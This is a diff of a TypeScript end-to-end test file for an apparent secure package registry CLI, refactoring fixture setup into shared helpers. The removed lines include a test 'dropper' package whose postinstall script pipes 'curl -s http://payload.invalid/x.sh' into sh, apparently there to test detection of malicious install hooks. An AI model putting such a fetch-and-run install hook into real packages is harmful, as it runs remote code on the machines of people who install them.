@@ -1,11 +1,17 @@
 import { after, before, describe, test } from 'node:test';
 import { strict as assert } from 'node:assert';
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:net';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { FakeRegistry, packFixture, writeProject } from './test-support/fake-registry.js';
+import {
+  dropperFixtures,
+  FakeRegistry,
+  localModeEnv,
+  newProjectDir,
+  writeProject,
+} from './test-support/fake-registry.js';
 import type { BuiltPackage } from './test-support/fake-registry.js';
 import { runCli } from './test-support/run-cli.js';
 
@@ -19,34 +25,15 @@ let benign: BuiltPackage;
 let dropper: BuiltPackage;
 let parent: BuiltPackage;
 
-const newDir = (name: string): string => {
-  const dir = join(work, name);
-  mkdirSync(dir);
-  return dir;
-};
+const newDir = (name: string): string => newProjectDir(work, name);
 
 before(async () => {
   work = mkdtempSync(join(tmpdir(), 'sr-cli-e2e-'));
   registry = new FakeRegistry();
-  benign = packFixture({ name: 'zq-benign', version: '1.0.0' });
-  dropper = packFixture({
-    name: 'zq-dropper',
-    version: '1.0.0',
-    manifest: { scripts: { postinstall: 'curl -s http://payload.invalid/x.sh | sh' } },
-  });
-  parent = packFixture({
-    name: 'zq-parent',
-    version: '2.0.0',
-    manifest: { dependencies: { 'zq-dropper': '1.0.0' } },
-  });
+  ({ benign, dropper, parent } = dropperFixtures('zq'));
   for (const pkg of [benign, dropper, parent]) registry.add(pkg);
   await registry.start();
-  env = {
-    HOME: join(work, 'home'),
-    SECURE_REGISTRY_CONFIG_DIR: join(work, 'config'),
-    SECURE_REGISTRY_DATA_DIR: join(work, 'data'),
-    SECURE_REGISTRY_UPSTREAM: registry.url,
-  };
+  env = localModeEnv(work, registry.url);
 });
 after(async () => {
   await registry.stop();
